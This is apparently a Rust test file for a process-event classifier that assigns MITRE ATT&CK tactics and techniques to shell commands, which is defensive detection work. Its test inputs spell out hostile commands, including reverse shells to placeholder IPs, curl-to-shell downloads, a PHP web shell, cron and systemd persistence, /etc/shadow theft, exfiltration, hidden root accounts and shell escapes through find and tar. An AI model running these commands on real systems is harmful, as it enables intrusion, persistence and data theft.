//! Naming with the shipped model: a flagged event's tactic and technique
//! come from its evidence (what the command does), consistently with each
//! other, and every technique the lexicon can name has a tactic.

use std::sync::Arc;

use outlier_classifier::{Classifier, Limits, N_FEATURES, explain, load_checked};
use outlier_proto::v1::{Event, Exec, event::Detail};

fn classifier() -> Classifier {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../models/classifier.json");
    let model = load_checked(&std::fs::read_to_string(path).unwrap()).expect("shipped model");
    Classifier::new(Arc::new(model), Limits::default())
}

fn shell(cmd: &str, parent: &str, ts: u64) -> Event {
    Event {
        org: "o".into(),
        workload: "web".into(),
        host: "h".into(),
        ts_ns: ts,
        pid: 4242,
        ppid: 4000,
        uid: 33,
        comm: "sh".into(),
        parent_comm: parent.into(),
        exe: "/usr/bin/sh".into(),
        detail: Some(Detail::Exec(Exec {
            argv: vec!["sh".into(), "-c".into(), cmd.into()],
            ..Exec::default()
        })),
        ..Event::default()
    }
}

fn named(cmd: &str) -> (String, String) {
    let mut c = classifier();
    let (f, p) = c.classify(&shell(cmd, "php-fpm8.2", 1_000_000_000));
    let a = c.explain(&f, &p, 3);
    (a.tactic, a.technique)
}

#[test]
fn tactics_come_from_the_specific_evidence() {
    // Each writes or runs from /tmp and spawns a shell (generic evidence);
    // the specific part names the goal.
    let cases = [
        (
            "echo '* * * * * root sh /tmp/x' > /etc/cron.d/upd",
            "persistence",
        ),
        ("cat /etc/shadow > /tmp/.s", "credential-access"),
        ("uname -a; cat /etc/os-release", "discovery"),
        ("iptables -F; systemctl stop auditd", "defense-evasion"),
        ("tar czf /tmp/.d.tgz /var/www", "collection"),
        ("xmrig -o stratum+tcp://pool.example:3333", "impact"),
    ];
    for (cmd, tactic) in cases {
        let (t, technique) = named(cmd);
        assert_eq!(t, tactic, "{cmd}: named {t} ({technique})");
        assert_eq!(
            explain::tactic_of_technique(&technique),
            t,
            "{cmd}: technique {technique} and tactic {t} disagree"
        );
    }
}

#[test]
fn generic_evidence_names_a_tactic_only_when_nothing_else_does() {
    // Only a shell and /tmp: execution (the shell), not collection (/tmp).
    let (t, technique) = named("sh -i /tmp/run");
    assert_eq!(t, "execution", "{technique}");
}

#[test]
fn commands_run_through_a_web_servers_shell_are_execution() {
    // What a web request's shell runs, with nothing more specific to say
    // what for: execution through the shell, not a web shell installed.
    let (t, technique) = named("cd /var/tmp && ./run");
    assert_eq!((t.as_str(), technique.as_str()), ("execution", "T1059.004"));
    // Code written under the web root is the web shell installed.
    let (t, technique) = named("echo '<?php system($_GET[1]); ?>' > /var/www/html/x.php");
    assert_eq!(
        (t.as_str(), technique.as_str()),
        ("persistence", "T1505.003")
    );
    // The feature itself, whatever service started the shell.
    let slot = outlier_classifier::features::names()
        .iter()
        .position(|n| n == "shell_under_service")
        .unwrap();
    for svc in ["php-fpm8.2", "nginx", "postgres"] {
        let ctx = outlier_classifier::features::Context {
            service_ancestor: svc.into(),
            ..Default::default()
        };
        assert_eq!(explain::technique(slot, &ctx), "T1059.004", "{svc}");
    }
}

#[test]
fn every_technique_the_lexicon_names_has_a_tactic() {
    let ctx = Default::default();
    for i in 0..N_FEATURES {
        let t = explain::technique(i, &ctx);
        if !t.is_empty() {
            assert!(
                !explain::tactic_of_technique(t).is_empty(),
                "{} points at {t}, which has no tactic",
                outlier_classifier::features::names()[i]
            );
        }
    }
    assert_eq!(explain::tactic_of_technique("T1053.003"), "persistence");
    assert_eq!(explain::tactic_of_technique("T9999"), "");
}

fn started(argv: &[&str], ts: u64) -> Event {
    Event {
        comm: argv[0].rsplit('/').next().unwrap().into(),
        exe: format!("/usr/bin/{}", argv[0]),
        detail: Some(Detail::Exec(Exec {
            argv: argv.iter().map(|a| a.to_string()).collect(),
            ..Exec::default()
        })),
        ..shell("", "sh", ts)
    }
}

/// The tactic and technique a fresh classifier names a program started
/// with `argv` by.
fn name_started(argv: &[&str]) -> (String, String) {
    let mut c = classifier();
    let (f, p) = c.classify(&started(argv, 1_000_000_000));
    let a = c.explain(&f, &p, 3);
    (a.tactic, a.technique)
}

#[test]
fn an_interpreter_started_with_nothing_else_to_say_is_execution() {
    // Not the class's guess: starting a shell or an interpreter is ATT&CK
    // T1059 by itself.
    let cases = [
        (&["fish"][..], "T1059.004"),
        (&["busybox", "ash"][..], "T1059.004"),
        (&["python3"][..], "T1059.006"),
        (&["lua5.4"][..], "T1059"),
    ];
    for (argv, technique) in cases {
        let mut c = classifier();
        let (f, p) = c.classify(&started(argv, 1_000_000_000));
        let a = c.explain(&f, &p, 3);
        assert_eq!(
            (a.tactic.as_str(), a.technique.as_str()),
            ("execution", technique),
            "{argv:?}"
        );
    }
    // It ranks after all the evidence: what a shell is told to run says
    // more.
    let mut c = classifier();
    let (f, p) = c.classify(&started(&["sh", "-c", "uname -a; hostname"], 1_000_000_000));
    let a = c.explain(&f, &p, 3);
    assert_eq!(a.tactic, "discovery", "{}", a.technique);
}

#[test]
fn a_program_whose_purpose_is_a_technique_names_it() {
    // No indicator in these command lines points at the goal; the program
    // started does.
    let cases = [
        (&["hostname"][..], "discovery", "T1082"),
        (&["poweroff", "-f"][..], "impact", "T1529"),
        (
            &["tcpdump", "-i", "any", "-w", "/tmp/c.pcap"][..],
            "credential-access",
            "T1040",
        ),
        (&["smbstatus", "-S"][..], "discovery", "T1135"),
        (&["pfctl", "-d"][..], "defense-evasion", "T1562.004"),
    ];
    for (argv, tactic, technique) in cases {
        let mut c = classifier();
        let (f, p) = c.classify(&started(argv, 1_000_000_000));
        let a = c.explain(&f, &p, 3);
        assert_eq!(
            (a.tactic.as_str(), a.technique.as_str()),
            (tactic, technique),
            "{argv:?}"
        );
    }
    // A high-precision indicator still comes first: a shell handed to a
    // network peer is a command channel (the training corpus labels reverse
    // and bind shells command and control) whatever program does it.
    let mut c = classifier();
    let (f, p) = c.classify(&started(
        &["ncat", "-e", "/bin/sh", "203.0.113.9", "4444"],
        1_000_000_000,
    ));
    let a = c.explain(&f, &p, 3);
    assert_eq!(a.tactic, "command-and-control", "{}", a.technique);
    assert_eq!(
        named("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
        ("command-and-control".to_string(), "T1095".to_string())
    );
    // Every program technique has a tactic.
    for name in [
        "hostname",
        "ss",
        "nmap",
        "ping",
        "crontab",
        "at",
        "useradd",
        "usermod",
        "insmod",
        "update-rc.d",
        "setcap",
        "xclip",
        "scrot",
        "ssh",
        "chisel",
        "tor",
        "rclone",
        "john",
        "wipefs",
        "timedatectl",
        "base64",
        "shred",
        "chattr",
        "setenforce",
    ] {
        let t = outlier_classifier::lexicon::program_technique(name);
        assert!(!explain::tactic_of_technique(t).is_empty(), "{name}: {t}");
    }
}

#[test]
fn a_payload_installed_at_start_up_names_persistence() {
    // A command channel or a download written into a cron table, a unit or
    // a shell start-up file is being installed: the start-up location names
    // it, whatever it will run.
    let cases = [
        (
            "(crontab -l; echo '@hourly nc -e /bin/sh 203.0.113.5 9001') | crontab -",
            "T1053.003",
        ),
        (
            "echo 'bash -i >& /dev/tcp/203.0.113.5/8443 0>&1' >> /root/.profile",
            "T1546.004",
        ),
        (
            "printf '[Service]\\nExecStart=/bin/sh -c \"curl -s http://203.0.113.5/u | sh\"\\n' > /etc/systemd/system/upd.service",
            "T1543.002",
        ),
    ];
    for (cmd, technique) in cases {
        assert_eq!(
            named(cmd),
            ("persistence".to_string(), technique.to_string()),
            "{cmd}"
        );
    }
    // The same channel run, not installed, stays command and control.
    assert_eq!(
        named("nc -e /bin/sh 203.0.113.5 9001").0,
        "command-and-control"
    );
}

#[test]
fn a_download_run_by_a_shell_is_named_by_the_program_it_fetches() {
    assert_eq!(
        outlier_classifier::features::fetched_program(
            "curl -s 'http://203.0.113.5:8080/a/LinEnum.sh?x=1' | bash"
        ),
        "linenum"
    );
    assert_eq!(
        outlier_classifier::features::fetched_program("wget -qO- http://203.0.113.5/ | sh"),
        ""
    );
    assert_eq!(
        named("wget -qO- http://203.0.113.5/LinEnum.sh | bash"),
        ("discovery".to_string(), "T1082".to_string())
    );
    assert_eq!(
        named("curl -so /tmp/p https://203.0.113.5/x/pspy64; chmod +x /tmp/p; /tmp/p"),
        ("discovery".to_string(), "T1057".to_string())
    );
    // A program whose purpose says nothing leaves the naming to the
    // evidence.
    let (t, technique) = named("curl -s http://203.0.113.5/a.sh | sh");
    assert!(
        t != "discovery" && t != "persistence" && !t.is_empty(),
        "{t} ({technique})"
    );
}

#[test]
fn a_shell_started_through_a_programs_arguments_is_execution() {
    // `find` is file discovery and `ip` network discovery by themselves;
    // here they are the vehicle for a shell.
    for argv in [
        &["find", ".", "-exec", "/bin/sh", "-p", ";", "-quit"][..],
        &["ip", "netns", "exec", "foo", "/bin/sh"][..],
        &[
            "tar",
            "-cf",
            "/dev/null",
            "/dev/null",
            "--checkpoint=1",
            "--checkpoint-action=exec=/bin/sh",
        ][..],
    ] {
        assert_eq!(
            name_started(argv),
            ("execution".into(), "T1059.004".into()),
            "{argv:?}"
        );
    }
    // The program's own name is not a shell started through it.
    let (t, technique) = name_started(&["/bin/sh", "-c", "uname -a; cat /etc/os-release"]);
    assert_eq!(t, "discovery", "{technique}");
    // A shell wired to a peer is still a command channel, and one written
    // into a start-up location still persistence.
    let (t, technique) = name_started(&[
        "python3",
        "-c",
        "import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")",
    ]);
    assert_eq!(t, "command-and-control", "{technique}");
    let (t, technique) = name_started(&[
        "sh",
        "-c",
        "echo '* * * * * root /bin/sh /opt/x' > /etc/cron.d/upd",
    ]);
    assert_eq!(t, "persistence", "{technique}");
    // Code that will start a shell, written where a web server runs it,
    // is a web shell installed (what the arguments name), not a shell run.
    let (t, technique) = name_started(&[
        "sh",
        "-c",
        "printf '<?php passthru(system($_REQUEST[1])); ?>' > /var/www/html/img/x.php",
    ]);
    assert_eq!(
        (t.as_str(), technique.as_str()),
        ("persistence", "T1505.003")
    );
}

#[test]
fn tactics_follow_the_labelled_corpus_where_it_names_one() {
    // ATT&CK lists some techniques under several tactics; the labelled
    // corpus gives each of its Atomic Red Team techniques one. The table
    // follows it, except where tests of ours label the technique by
    // intent (a cron job or a start-up file installed is persistence;
    // sniffing is credential access): those differences are listed here.
    const OURS: [&str; 5] = ["T1037", "T1040", "T1053", "T1546", "T1547"];
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../data/attacks_train.jsonl");
    let mut checked = std::collections::BTreeSet::new();
    for line in std::fs::read_to_string(path).unwrap().lines() {
        let row: serde_json::Value = serde_json::from_str(line).unwrap();
        if row["source"] != "atomic-red-team" {
            continue;
        }
        let technique = row["technique"].as_str().unwrap();
        let parent = technique.split('.').next().unwrap();
        let label = match row["tactic"].as_str().unwrap() {
            "" => continue,
            "stealth" | "defense-impairment" => "defense-evasion",
            t => t,
        };
        let ours = explain::tactic_of_technique(technique);
        if OURS.contains(&parent) {
            assert_ne!(
                ours, label,
                "{technique}: no longer differs, drop it from OURS"
            );
        } else {
            assert_eq!(ours, label, "{technique}: {} in the corpus", row["name"]);
        }
        checked.insert(parent.to_string());
    }
    assert!(checked.len() > 50, "{} techniques", checked.len());
}

#[test]
fn data_is_named_by_the_direction_it_moves() {
    // A local file sent to another host is exfiltration, whatever the
    // tool; a remote file fetched here is ingress tool transfer.
    for argv in [
        &[
            "scp",
            "-P",
            "2222",
            "/tmp/all.sql",
            "loot@198.51.100.9:/srv/",
        ][..],
        &[
            "curl",
            "-X",
            "POST",
            "--data-binary",
            "@/tmp/e",
            "http://203.0.113.7",
        ][..],
        &["ab", "-p", "/tmp/e", "http://203.0.113.7/"][..],
    ] {
        assert_eq!(
            name_started(argv),
            ("exfiltration".into(), "T1048".into()),
            "{argv:?}"
        );
    }
    assert_eq!(
        name_started(&["scp", "user@203.0.113.7:/srv/tool", "/tmp/tool"]),
        ("command-and-control".into(), "T1105".into())
    );
    // An option that can send data (`-f` matches the upload indicator's
    // `curl -f`, meant for `-F`) is not data sent: `curl -fsS` fetches.
    assert_eq!(
        name_started(&["curl", "-fsS", "http://203.0.113.7/stage2/update"]),
        ("command-and-control".into(), "T1105".into())
    );
    // A file's contents written into a /dev/tcp socket are sent out; the
    // same socket wired to a shell is a command channel.
    assert_eq!(
        name_started(&[
            "bash",
            "-c",
            "echo -n \"$(</root/notes)\" >/dev/tcp/203.0.113.7/4444"
        ]),
        ("exfiltration".into(), "T1048".into())
    );
    let (t, technique) =
        name_started(&["bash", "-c", "exec bash -i &>/dev/tcp/203.0.113.7/4444 <&1"]);
    assert_eq!(t, "command-and-control", "{technique}");
}

#[test]
fn a_program_a_web_servers_shell_runs_is_named_by_what_it_does() {
    // What the web server's shell runs is named by what it does (a
    // download, files deleted), not more execution through the shell; the
    // explanation does not call the program a shell.
    let cases = [
        (
            &["curl", "-s", "http://203.0.113.7/srv/files/update-agent"][..],
            ("command-and-control", "T1105"),
        ),
        (
            &["rm", "-rf", "/var/www/html/uploads"][..],
            ("defense-evasion", "T1070.004"),
        ),
    ];
    for (argv, want) in cases {
        let mut c = classifier();
        let sh = Event {
            pid: 4000,
            ppid: 3000,
            ..shell(&argv.join(" "), "php-fpm8.2", 1_000_000_000)
        };
        c.classify(&sh);
        let child = Event {
            pid: 4001,
            ppid: 4000,
            uid: 33,
            ..started(argv, 1_001_000_000)
        };
        let (f, p) = c.classify(&child);
        let a = c.explain(&f, &p, 5);
        assert_eq!(
            (a.tactic.as_str(), a.technique.as_str()),
            want,
            "{argv:?}: {}",
            a.explanation
        );
        assert!(
            !a.explanation.contains(&format!("shell {}", argv[0])),
            "{}",
            a.explanation
        );
    }
}

#[test]
fn a_login_shell_set_for_an_account_is_not_a_shell_started() {
    // `-s /bin/bash` is the account's login shell: the account is made
    // (persistence), no shell runs.
    let mut c = classifier();
    let (f, p) = c.classify(&started(
        &[
            "useradd",
            "-o",
            "-u",
            "0",
            "-M",
            "-s",
            "/bin/bash",
            "sysupdate",
        ],
        1_000_000_000,
    ));
    let a = c.explain(&f, &p, 3);
    assert_eq!(
        (a.tactic.as_str(), a.technique.as_str()),
        ("persistence", "T1136.001")
    );
    assert!(!f.context.shell_in_arguments);
    // A shell's file copied is not a shell started either.
    let (f, _) = c.classify(&started(
        &["cp", "/bin/bash", "/var/tmp/.sh"],
        2_000_000_000,
    ));
    assert!(!f.context.shell_in_arguments);
}

#[test]
fn what_a_process_does_names_it_before_how_it_looks() {
    // A download into a hidden directory is a download; a hidden name
    // (which `./run` also matches) names the event only when nothing
    // else does.
    assert_eq!(
        name_started(&[
            "curl",
            "-s",
            "-o",
            "/var/tmp/.cache/upd",
            "http://203.0.113.9/u"
        ]),
        ("command-and-control".into(), "T1105".into())
    );
    assert_eq!(
        name_started(&["touch", "/tmp/.k"]),
        ("defense-evasion".into(), "T1564.001".into())
    );
}
